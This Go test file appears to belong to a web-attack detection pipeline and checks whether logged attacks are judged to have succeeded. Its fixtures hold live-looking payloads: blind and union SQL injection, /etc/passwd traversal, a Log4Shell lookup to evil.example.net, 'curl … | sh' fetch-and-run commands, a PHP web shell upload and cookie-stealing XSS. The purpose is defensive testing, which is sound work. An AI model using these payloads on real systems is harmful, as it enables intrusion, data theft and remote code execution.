package pipeline

import (
	"encoding/json"
	"fmt"
	"maps"
	"net/url"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// log writes records of Nano, one second after another.
type logOf struct {
	t       *testing.T
	now     time.Time
	records [][]byte
}

func newLog(t *testing.T) *logOf {
	return &logOf{t: t, now: time.Date(2026, 3, 20, 10, 0, 0, 0, time.UTC)}
}

// timeLayout is how Nano writes times.
const timeLayout = "2006-01-02 15:04:05.000"

// add writes a record of a client, whose answer took so long; more replaces fields.
func (l *logOf) add(client, method, uri, answer string, took time.Duration, more map[string]string) {
	l.t.Helper()
	l.now = l.now.Add(time.Second)
	const layout = timeLayout
	r := map[string]string{
		"BEGIN_TIME": l.now.Format(layout), "END_TIME": l.now.Add(took).Format(layout),
		"METHOD": method, "URL": uri, "DOMAIN": "shop.internal", "SRC_IP": client, "DST_IP": "10.2.0.9", "RETCODE": "200",
		"REQ_HEADER": method + " " + uri + " HTTP/1.1\r\nUser-Agent: okhttp/4.12.0\r\n\r\n",
		"RSP_HEADER": "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n", "RSP_BODY": answer,
	}
	maps.Copy(r, more)
	text, err := json.Marshal(r)
	if err != nil {
		l.t.Fatal(err)
	}
	l.records = append(l.records, jsonRecord(l.t, string(text)))
}

// judged are the alerts of the log, by the number of their record, which is added under "n".
func (l *logOf) judged(p *Pipeline) (all []map[string]any) {
	l.t.Helper()
	for _, alerts := range l.inspected(p) {
		all = append(all, alerts...)
	}
	return all
}

func (l *logOf) inspected(p *Pipeline) (all [][]map[string]any) {
	const atOnce = 500
	for part := range slices.Chunk(l.records, atOnce) {
		var chunk []byte
		for _, r := range part {
			chunk = append(chunk, newEvent(uint32(l.now.Unix()), r)...)
		}
		result := p.Process("t", chunk)
		alerts := make([][]map[string]any, len(part))
		for i, a := range read(l.t, result) {
			n := result.Records[i]
			alerts[n] = append(alerts[n], a)
		}
		all = append(all, alerts...)
	}
	l.records = nil
	return all
}

// remembering is a pipeline without a past.
func remembering(t *testing.T, properties ...string) *Pipeline {
	t.Helper()
	return confident(t, append([]string{"behavior=off", "state_path=" + filepath.Join(t.TempDir(), "state")}, properties...)...)
}

func path(of, value string) string { return of + "=" + url.QueryEscape(value) }

// What became of an attack is told by records before and behind it.
func TestOutcomeOfManyRecords(t *testing.T) {
	const attacker = "10.9.9.9"
	const page = "<html><h1>Products</h1></html>"
	ordinary := func(l *logOf, clients int, answer string, took time.Duration) {
		for n := range 4 * clients {
			l.add(fmt.Sprint("10.1.0.", 1+n%clients), "GET", fmt.Sprint("/list?page=", n), answer, took, nil)
		}
	}
	for name, c := range map[string]struct {
		write    func(l *logOf)
		outcome  string // of the last alert
		evidence string
	}{
		"waited, usually quick": {func(l *logOf) {
			ordinary(l, 3, page, 20*time.Millisecond)
			l.add(attacker, "GET", path("/list?page", "1' and sleep(5)-- "), page, 5031*time.Millisecond, nil)
		}, "success", "answered after 5.03 s, usually 0.02 s, as sleep(5"},
		"waited, usually as long": {func(l *logOf) {
			ordinary(l, 3, page, 6*time.Second)
			l.add(attacker, "GET", path("/list?page", "1' and sleep(5)-- "), page, 5031*time.Millisecond, nil)
		}, "unknown", "usually it takes"},
		"two clients make nothing usual": {func(l *logOf) {
			ordinary(l, 2, page, 6*time.Second)
			l.add(attacker, "GET", path("/list?page", "1' and sleep(5)-- "), page, 5031*time.Millisecond, nil)
		}, "success", "as sleep(5"},
		"did not wait, as it did before": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "1' and if(ord(mid(user(),1,1))>32,sleep(5),0)-- "), page, 5031*time.Millisecond, nil)
			l.add(attacker, "GET", path("/list?page", "1' and if(ord(mid(user(),1,1))>64,sleep(5),0)-- "), page, 20*time.Millisecond, nil)
		}, "success", "has waited for another condition"},
		"did not wait, and is another": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "1' and if(ord(mid(user(),1,1))>32,sleep(5),0)-- "), page, 5031*time.Millisecond, nil)
			l.add(attacker, "GET", path("/list?page", "1) rlike (if(1=1,sleep(5),0)-- "), page, 20*time.Millisecond, nil)
		}, "unknown", ""},

		"a second, usually quick": {func(l *logOf) {
			ordinary(l, 3, page, 20*time.Millisecond)
			l.add(attacker, "GET", path("/list?page", "1;sleep 1;"), page, 1012*time.Millisecond, nil)
		}, "success", "answered after 1.01 s, usually 0.02 s, as sleep 1"},
		"a second, and more than that": {func(l *logOf) {
			ordinary(l, 3, page, 20*time.Millisecond)
			l.add(attacker, "GET", path("/list?page", "1;sleep 1;"), page, 1391*time.Millisecond, nil)
		}, "unknown", "asks for 1 s"},
		"a second, once in a while": {func(l *logOf) {
			ordinary(l, 3, page, 20*time.Millisecond)
			l.add("10.1.0.2", "GET", "/list?page=5", page, 800*time.Millisecond, nil)
			l.add(attacker, "GET", path("/list?page", "1;sleep 1;"), page, 1012*time.Millisecond, nil)
		}, "unknown", ""},
		"a second, by who is served slowly": {func(l *logOf) {
			ordinary(l, 3, page, 20*time.Millisecond)
			l.add(attacker, "GET", path("/list?page", "1;sleep 0;"), page, 1003*time.Millisecond, nil)
			for range 3 {
				l.add(attacker, "GET", path("/list?page", "1;sleep 1;"), page, 1004*time.Millisecond, nil)
			}
		}, "unknown", ""},
		"a second, once": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "1;sleep 0;"), page, 20*time.Millisecond, nil)
			l.add(attacker, "GET", path("/list?page", "1;sleep 1;"), page, 1120*time.Millisecond, nil)
		}, "unknown", ""},
		"a second, time and again": {func(l *logOf) {
			for n := range 4 {
				l.add(attacker, "GET", path("/list?page", fmt.Sprintf("1;sleep %d;", n%2)), page, 20*time.Millisecond+time.Duration(n%2)*1100*time.Millisecond, nil)
			}
		}, "success", "answered after 1.12 s, as sleep 1"},
		"work for the database": {func(l *logOf) {
			for n := range 4 {
				l.add(attacker, "GET", path("/list?page", fmt.Sprintf("1 AND 7=(CASE WHEN (%d=3) THEN LIKE(CHAR(65),HEX(RANDOMBLOB(100000000))) ELSE 7 END)", n|1)), page, []time.Duration{20, 40, 1710, 1560}[n]*time.Millisecond, nil)
			}
		}, "success", "with the work that randomblob(100000000 is"},
		"work for the database, and slow anyway": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "1 AND 7=9"), page, 1600*time.Millisecond, nil)
			for n := range 4 {
				l.add(attacker, "GET", path("/list?page", fmt.Sprintf("1 AND 7=(CASE WHEN (%d=3) THEN LIKE(CHAR(65),HEX(RANDOMBLOB(100000000))) ELSE 7 END)", n|1)), page, []time.Duration{20, 40, 1710, 1560}[n]*time.Millisecond, nil)
			}
		}, "unknown", ""},
		"waiting that something ended": {func(l *logOf) {
			ordinary(l, 3, page, 20*time.Millisecond)
			l.add(attacker, "GET", path("/list?page", "1;sleep 60;"), page, 10012*time.Millisecond, nil)
		}, "success", "when something ended the waiting that sleep 60 asks for"},
		"waiting that nobody ended": {func(l *logOf) {
			ordinary(l, 3, page, 20*time.Millisecond)
			l.add(attacker, "GET", path("/list?page", "1;sleep 60;"), page, 11700*time.Millisecond, nil)
		}, "unknown", "asks for 60 s"},
		"waiting that something ended, and nothing is known of the endpoint": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "1;sleep 60;"), page, 10012*time.Millisecond, nil)
		}, "unknown", ""},

		"usual answer": {func(l *logOf) {
			ordinary(l, 3, page, 0)
			l.add(attacker, "GET", path("/list?page", "../../../../etc/passwd"), page, 0, nil)
		}, "failure", "usual answer"},
		"usual answer to two": {func(l *logOf) {
			ordinary(l, 2, page, 0)
			l.add(attacker, "GET", path("/list?page", "../../../../etc/passwd"), page, 0, nil)
		}, "unknown", ""},
		"usual, and shows nothing": {func(l *logOf) {
			ordinary(l, 3, page, 0)
			l.add(attacker, "GET", path("/list?page", "1;curl http://198.51.100.7/x | sh"), page, 0, nil)
		}, "unknown", ""},
		"usual, and a signature": {func(l *logOf) {
			ordinary(l, 3, "root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/sbin/nologin\n", 0)
			l.add(attacker, "GET", path("/list?page", "../../../../etc/passwd"), "root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/sbin/nologin\n", 0, nil)
		}, "success", "passwd"},

		"the same to everything": {func(l *logOf) {
			ordinary(l, 1, "<p>lamp</p>", 0)
			ordinary(l, 1, "<p>sofa</p>", 0)
			for n := range 5 {
				p := fmt.Sprintf("%d' union select %d,password from users-- ", n, n)
				l.add(attacker, "GET", path("/list?page", p), "<p>nothing for "+strings.ReplaceAll(p, "'", "&#39;")+"</p>", 0, nil)
			}
		}, "failure", "the same answer to 5 different payloads"},
		"the same to everything, and to others": {func(l *logOf) {
			ordinary(l, 2, "<p>ok</p>", 0)
			for n := range 6 {
				l.add(attacker, "GET", path("/list?page", fmt.Sprintf("%d' or sleep(%d)-- ", n, n)), "<p>ok</p>", 0, nil)
			}
		}, "unknown", ""},
		"the same to four": {func(l *logOf) {
			for n := range 4 {
				l.add(attacker, "GET", path("/list?page", fmt.Sprintf("%d' union select %d,password from users-- ", n, n)), "<p>nothing</p>", 0, nil)
			}
		}, "unknown", ""},
		"the same payload again": {func(l *logOf) {
			for range 9 {
				l.add(attacker, "GET", path("/list?page", "1' union select 1,password from users-- "), "<p>nothing</p>", 0, nil)
			}
		}, "unknown", ""},
		"everywhere": {func(l *logOf) {
			for _, uri := range []string{"/a", "/b", "/c"} {
				l.add("10.1.0.7", "GET", uri, page, 0, nil)
			}
			l.add(attacker, "GET", "/WEB-INF/web.xml", page, 0, nil)
		}, "failure", "to everything"},

		"true and false": {func(l *logOf) {
			for _, p := range []string{"1' and 3412=3412", "1' and 3412=9924", "1' and 5512=5512"} {
				answer := page
				if strings.Contains(p, "9924") {
					answer = "<html>none</html>"
				}
				l.add(attacker, "GET", path("/list?page", p+" and 'a'='a"), answer, 0, nil)
			}
			l.add(attacker, "GET", path("/list?page", "1' and ord(mid((select password from users limit 1),1,1))>64 and 'a'='a"), page, 0, nil)
		}, "success", "true and false conditions differ"},
		"true and false, and a statement that can't run": {func(l *logOf) {
			for _, p := range []string{"1' and 3412=3412", "1' and 3412=9924", "1' and 5512=5512", "1' and (select nowhere(1)) is null"} {
				answer := page
				if strings.Contains(p, "9924") || strings.Contains(p, "nowhere") {
					answer = "<html>none</html>"
				}
				l.add(attacker, "GET", path("/list?page", p+" and 'a'='a"), answer, 0, nil)
			}
		}, "unknown", ""},
		"true and false, with a token": {func(l *logOf) {
			for n, p := range []string{"1' and 3412=3412", "1' and 3412=9924", "1' and 5512=5512"} {
				answer := fmt.Sprintf("<input name=csrf value=%dQzKd8Rr2XvTtPlMn4Yy7Ab%d>", 31+n, n) + page
				if strings.Contains(p, "9924") {
					answer = fmt.Sprintf("<input name=csrf value=%dQzKd8Rr2XvTtPlMn4Yy7Ab%d>none", 31+n, n)
				}
				l.add(attacker, "GET", path("/list?page", p+" and 'a'='a"), answer, 0, nil)
			}
		}, "success", "true and false conditions differ"},
		"true and false, and a false one that begins in another way": {func(l *logOf) {
			for _, p := range []string{"1' and 3412=3412", "1' and 3412=9924", "1' and 5512=5512", `1" and 3412=9924`} {
				answer := page
				if strings.Contains(p, "9924") {
					answer = "<html>none</html>"
				}
				l.add(attacker, "GET", path("/list?page", p+" and 'a'='a"), answer, 0, nil)
			}
		}, "unknown", ""},
		"true and false, and what decides nothing": {func(l *logOf) {
			ordinary(l, 3, page, 0)
			for _, p := range []string{"1' and 3412=3412-- ", "1' and 3412=9924-- ", "1' and 5512=5512-- ", "1' union select name from nothing-- "} {
				answer := page
				if strings.Contains(p, "9924") {
					answer = "<html>none</html>"
				}
				l.add(attacker, "GET", path("/list?page", p), answer, 0, nil)
			}
		}, "unknown", ""},
		"true and false, blocked": {func(l *logOf) {
			for _, p := range []string{"1' and 3412=3412", "1' and 3412=9924", "1' and 5512=5512", "1' and 5=9"} {
				answer, status := page, "200"
				if !strings.Contains(p, "9") {
					answer, status = "blocked", "403"
				}
				l.add(attacker, "GET", path("/list?page", p+" and 'a'='a"), answer, 0, map[string]string{"RETCODE": status})
			}
		}, "unknown", ""},
		"true and false, a page that changes": {func(l *logOf) {
			for n, p := range []string{"1' and 3412=3412", "1' and 3412=9924", "1' and 5512=5512"} {
				l.add(attacker, "GET", path("/list?page", p+" and 'a'='a"), fmt.Sprint("<p>visitor ", 1000+n), 0, nil)
			}
		}, "unknown", ""},

		"called back": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "${jndi:ldap://evil.example.net:1389/a}"), page, 0, nil)
			l.add("10.2.0.9", "GET", "/a", "class", 0, map[string]string{"DOMAIN": "evil.example.net", "DST_IP": "198.51.100.7"})
		}, "success", "10.2.0.9 asked evil.example.net, 1s after 10.9.9.9 told shop.internal to"},
		"another calls": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "${jndi:ldap://evil.example.net:1389/a}"), page, 0, nil)
			l.add("10.2.0.8", "GET", "/a", "class", 0, map[string]string{"DOMAIN": "evil.example.net", "DST_IP": "198.51.100.7"})
		}, "unknown", ""},
		"calls there anyway": {func(l *logOf) {
			call := map[string]string{"DOMAIN": "hooks.example.net", "DST_IP": "198.51.100.7"}
			for range 5 {
				l.add("10.2.0.9", "GET", "/a", "ok", 0, call)
			}
			l.add(attacker, "GET", path("/list?page", "1;curl http://hooks.example.net/x | sh"), page, 0, nil)
			l.add("10.2.0.9", "GET", "/a", "ok", 0, call)
		}, "unknown", ""},
		"called there before, for requests that do not alarm": {func(l *logOf) {
			call := map[string]string{"DOMAIN": "evil.example.net", "DST_IP": "198.51.100.7"}
			for range 3 {
				l.add(attacker, "GET", path("/preview?url", "https://evil.example.net/a"), page, 0, nil)
				l.add("10.2.0.9", "GET", "/a", "ok", 0, call)
			}
			l.add(attacker, "GET", path("/list?page", "${jndi:ldap://evil.example.net:1389/a}"), page, 0, nil)
			l.add("10.2.0.9", "GET", "/a", "class", 0, call)
		}, "success", "10.2.0.9 asked evil.example.net, 1s after"},
		"called back before its answer": {func(l *logOf) {
			begin := l.now.Add(2 * time.Second)
			l.add("10.2.0.9", "GET", "/a", "class", 0, map[string]string{"DOMAIN": "evil.example.net", "DST_IP": "198.51.100.7", "BEGIN_TIME": begin.Format(timeLayout), "END_TIME": begin.Format(timeLayout)})
			l.add(attacker, "GET", path("/list?page", "${jndi:ldap://evil.example.net:1389/a}"), page, time.Second, nil)
		}, "success", "10.2.0.9 asked evil.example.net while it answered"},
		"called back, again": {func(l *logOf) {
			for n := range 3 {
				l.add(attacker, "GET", path("/list?page", fmt.Sprintf("${jndi:ldap://evil.example.net:1389/%d}", n)), page, 0, nil)
				l.add("10.2.0.9", "GET", "/a", "class", 0, map[string]string{"DOMAIN": "evil.example.net", "DST_IP": "198.51.100.7"})
			}
		}, "success", "10.2.0.9 asked evil.example.net, 1s after"},
		"asked where a path out of the place begins": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "https://pay.example.net/../../../../etc/passwd"), page, 0, nil)
			l.add("10.2.0.9", "GET", "/etc/passwd", "none", 0, map[string]string{"DOMAIN": "pay.example.net", "DST_IP": "198.51.100.7"})
		}, "unknown", ""},
		"called back, an address in one number": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "1;curl http://3325256711/x | sh"), page, 0, nil)
			l.add("10.2.0.9", "GET", "/x", "class", 0, map[string]string{"DOMAIN": "", "DST_IP": "198.51.100.7"})
		}, "success", "10.2.0.9 asked 198.51.100.7"},

		"broken and completed": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "a' UNION SELECT name FROM accounts-- "), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
			l.add(attacker, "GET", path("/list?page", "a' UNION SELECT name, secret FROM accounts-- "), "<table><tr><td>x</td></tr></table>", 0, nil)
		}, "success", "broke the statement"},
		"broken by another quote": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", `a" UNION SELECT name FROM accounts-- `), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
			l.add(attacker, "GET", path("/list?page", "a' UNION SELECT name, secret FROM accounts-- "), "<h1>Products</h1>", 0, nil)
		}, "unknown", ""},
		"broken by one quote of two": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", `a' UNION SELECT "name" FROM accounts-- `), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
			l.add(attacker, "GET", path("/list?page", "a' UNION SELECT name, secret FROM accounts-- "), "<h1>Products</h1>", 0, nil)
		}, "unknown", ""},
		"broken, and a text without a quote": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "a' UNION SELECT name FROM accounts-- "), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
			l.add(attacker, "GET", path("/list?page", "a AND 1=1 UNION SELECT name, secret FROM accounts-- "), "<h1>Products</h1>", 0, nil)
		}, "unknown", ""},
		"broken, and a number without a quote": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "1' UNION SELECT name FROM accounts-- "), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
			l.add(attacker, "GET", path("/list?page", "1 UNION SELECT name, secret FROM accounts-- "), "<h1>Products</h1>", 0, nil)
		}, "unknown", ""},
		"broken and completed, a number": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "1 UNION SELECT name FROM accounts-- "), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
			l.add(attacker, "GET", path("/list?page", "-1 UNION SELECT name, secret FROM accounts-- "), "<h1>Products</h1>", 0, nil)
		}, "success", "broke the statement"},
		"broken and completed, an order of rows": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "a' ORDER BY 9-- "), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
			l.add(attacker, "GET", path("/list?page", "a' ORDER BY 2-- "), page, 0, nil)
		}, "success", "broke the statement"},
		"broken and completed, another statement": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "7;SELECT nothing FROM nowhere--"), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
			l.add(attacker, "GET", path("/list?page", "7;SELECT sleep(0)--"), page, 0, nil)
		}, "success", "broke the statement"},
		"broken and completed, a text in a text": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "a' ORDER BY 9-- "), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
			l.add(attacker, "GET", path("/list?page", "a' or sleep(0)='"), page, 0, nil)
		}, "success", "broke the statement"},
		"broken, and a text of its own": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "' ORDER BY 9-- "), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
			l.add(attacker, "GET", path("/list?page", "' or sleep(0)='"), page, 0, nil)
		}, "unknown", ""},
		"broken, and a quote left open": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "a' ORDER BY 9-- "), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
			l.add(attacker, "GET", path("/list?page", "a' or 1=1"), page, 0, nil)
		}, "unknown", ""},
		"broken, and a word behind the quote": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "' ORDER BY 9-- "), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
			l.add(attacker, "GET", path("/list?page", "'hi' or 'x'='x';"), page, 0, nil)
		}, "unknown", ""},
		"broken by brackets, as a filter of a directory is": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "a') or sleep(7)-- "), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
			l.add(attacker, "GET", path("/list?page", "a' and (select 1)-- "), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
			l.add(attacker, "GET", path("/list?page", "a';waitfor delay '0:0:7'-- "), page, 0, nil)
		}, "unknown", ""},
		"an error that is the payload's own words": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "a' and x=[ODBC;DRIVER=SQL SERVER;Server=1.1.1.1]-- "), "<p>a' and x=[ODBC;DRIVER=SQL SERVER;Server=1.1.1.1]-- </p>", 0, nil)
			l.add(attacker, "GET", path("/list?page", "a' ORDER BY 2-- "), page, 0, nil)
		}, "unknown", ""},
		"broken in another parameter": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?name", "a' UNION SELECT name FROM accounts-- "), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
			l.add(attacker, "GET", path("/list?page", "a' UNION SELECT name, secret FROM accounts-- "), "<h1>Products</h1>", 0, nil)
		}, "unknown", ""},
		"all that there is": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "x)(uid=nobody))(|(uid=nobody"), "[]", 0, nil)
			l.add(attacker, "GET", path("/list?page", "*)(uid=*))(|(uid=*"), `[{"name":"ann","mail":"ann@example.com"}]`, 0, nil)
		}, "success", "more than that to another payload"},
		"all that anybody gets": {func(l *logOf) {
			ordinary(l, 2, `[{"name":"ann","mail":"ann@example.com"}]`, 0)
			l.add(attacker, "GET", path("/list?page", "x)(uid=nobody))(|(uid=nobody"), "[]", 0, nil)
			l.add(attacker, "GET", path("/list?page", "*)(uid=*))(|(uid=*"), `[{"name":"ann","mail":"ann@example.com"}]`, 0, nil)
		}, "unknown", ""},
		"never broken": {func(l *logOf) {
			l.add(attacker, "GET", path("/list?page", "a' UNION SELECT name FROM accounts-- "), "<h1>Products</h1>", 0, nil)
			l.add(attacker, "GET", path("/list?page", "a' UNION SELECT name, secret FROM accounts-- "), "<table><tr><td>x</td></tr></table>", 0, nil)
		}, "unknown", ""},
		"longer than ever": {func(l *logOf) {
			ordinary(l, 3, page, 0)
			l.add(attacker, "GET", path("/list?page", "a' OR 1=1-- "), page+strings.Repeat("<p>lamp</p>", 20), 0, nil)
		}, "success", "longer than any"},
		"longer by its echo": {func(l *logOf) {
			ordinary(l, 3, page, 0)
			l.add(attacker, "GET", path("/list?page", "a' OR 1=1-- "), page+"nothing for "+strings.Repeat("a' OR 1=1-- ", 6), 0, nil)
		}, "unknown", ""},
		"an open condition that is true": {func(l *logOf) {
			for n := range 7 {
				answer := "<p>none</p>"
				if n == 6 {
					answer = "<p>lamp</p>"
				}
				l.add(attacker, "GET", path("/list?page", fmt.Sprintf("1 AND (SELECT substr(secret,1,1) FROM accounts WHERE id=1)='%c'", 'a'+n)), answer, 0, nil)
			}
		}, "success", "this one is true"},

		"upload, fetched": {func(l *logOf) {
			upload(l, attacker)
			l.add("10.9.9.8", "GET", "/files/cmd.php?c=1", "ok", 0, nil)
		}, "success", "/files/cmd.php was fetched with 200"},
		"upload, called": {func(l *logOf) {
			upload(l, attacker)
			l.add("10.9.9.8", "POST", "/files/cmd.php", "ok", 0, form("c=1"))
		}, "success", "/files/cmd.php was fetched with 200"},
		"upload, not there": {func(l *logOf) {
			upload(l, attacker)
			l.add("10.9.9.8", "GET", "/files/cmd.php", "no", 0, map[string]string{"RETCODE": "404"})
		}, "unknown", "when somebody asks for it"},
		"stored script": {func(l *logOf) {
			l.add(attacker, "POST", "/comments", "thanks", 0, form("text=<script>alert(document.cookie)</script>"))
			l.add("10.1.0.7", "GET", "/article/7", "<p>so</p><script>alert(document.cookie)</script>", 0, nil)
		}, "success", "the page /article/7 has the script"},
		"stored, escaped": {func(l *logOf) {
			l.add(attacker, "POST", "/comments", "thanks", 0, form("text=<script>alert(document.cookie)</script>"))
			l.add("10.1.0.7", "GET", "/article/7", "<p>so</p>&lt;script&gt;alert(document.cookie)&lt;/script&gt;", 0, nil)
		}, "unknown", ""},
	} {
		t.Run(name, func(t *testing.T) {
			l := newLog(t)
			c.write(l)
			alerts := l.judged(remembering(t, "mask=off"))
			if len(alerts) == 0 {
				t.Fatal("no alert")
			}
			last := alerts[len(alerts)-1]
			if text := fmt.Sprint(last["outcome_evidence"]); last["outcome"] != c.outcome || !strings.Contains(text, c.evidence) {
				t.Errorf("%v: %s", last["outcome"], text)
			}
			if c.outcome == "success" && last["severity"] != "1" {
				t.Errorf("the severity is %v", last["severity"])
			}
		})
	}
}

// So do those of conditions for which the server has not waited, once it has waited for another one.
func TestDidNotWaitBefore(t *testing.T) {
	l := newLog(t)
	for n, took := range []time.Duration{20 * time.Millisecond, 20 * time.Millisecond, 5031 * time.Millisecond} {
		l.add("10.9.9.9", "GET", "/list?page="+url.QueryEscape(fmt.Sprintf("1' and if(ord(mid(user(),1,1))>%d,sleep(5),0)-- ", 96-32*n)), "<h1>Products</h1>", took, nil)
	}
	l.add("10.9.9.9", "GET", "/list?page="+url.QueryEscape("1) rlike (if(1=1,sleep(5),0)-- "), "<h1>Products</h1>", 20*time.Millisecond, nil)
	alerts := l.judged(remembering(t, "mask=off"))
	var got []any
	for _, a := range alerts {
		got = append(got, a["outcome"])
	}
	if want := []any{"success", "success", "success", "unknown"}; !slices.Equal(got, want) {
		t.Errorf("outcomes are %v, want %v", got, want)
	}
}

// What several records show together, the alerts of those before say, too, where these are not made yet.
func TestProvedTogether(t *testing.T) {
	type exchange struct {
		payload, answer string
		took            time.Duration
	}
	for name, c := range map[string]struct {
		exchanges []exchange
		want      []any
	}{
		"conditions": {[]exchange{
			{"a' and 31=31-- -", "<p>lamp</p>", 0}, {"a' and 31=77-- -", "<p>none</p>", 0}, {"a' and 32=32-- -", "<p>lamp</p>", 0}, {"a' and 32=78-- -", "<p>none</p>", 0},
		}, []any{"success", "success", "success", "success"}},
		"a second": {[]exchange{
			{"1;sleep 1;", "<p>ok</p>", 1015 * time.Millisecond}, {"1;sleep 1;", "<p>ok</p>", 1120 * time.Millisecond}, {"1;sleep 0;", "<p>ok</p>", 20 * time.Millisecond},
		}, []any{"success", "success", "unknown"}},
	} {
		t.Run(name, func(t *testing.T) {
			l := newLog(t)
			for _, x := range c.exchanges {
				l.add("10.9.9.9", "GET", path("/list?page", x.payload), x.answer, x.took, nil)
			}
			var got []any
			for _, a := range l.judged(remembering(t, "mask=off")) {
				got = append(got, a["outcome"])
			}
			if !slices.Equal(got, c.want) {
				t.Errorf("outcomes are %v, want %v", got, c.want)
			}
		})
	}
}

// The alert of an attack of the same chunk says itself what a later record shows of it.
func TestProvedByLaterRecord(t *testing.T) {
	l := newLog(t)
	upload(l, "10.9.9.9")
	l.add("10.9.9.8", "GET", "/files/cmd.php", "ok", 0, nil)
	alerts := l.judged(remembering(t, "mask=off"))
	if len(alerts) < 2 || alerts[0]["outcome"] != "success" || !strings.Contains(fmt.Sprint(alerts[0]["outcome_evidence"]), "/files/cmd.php was fetched with 200") {
		t.Errorf("%v", alerts)
	}
}

func form(body string) map[string]string {
	return map[string]string{
		"REQ_HEADER": fmt.Sprintf("POST /comments HTTP/1.1\r\nHost: shop.internal\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n", len(body)),
		"REQ_BODY":   body,
	}
}

func upload(l *logOf, client string) {
	body := "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"cmd.php\"\r\nContent-Type: text/plain\r\n\r\n<?php system($_GET['c']); ?>\r\n--b--\r\n"
	l.add(client, "POST", "/upload", "stored", 0, map[string]string{
		"REQ_HEADER": fmt.Sprintf("POST /upload HTTP/1.1\r\nHost: shop.internal\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: %d\r\n\r\n", len(body)),
		"REQ_BODY":   body,
	})
}
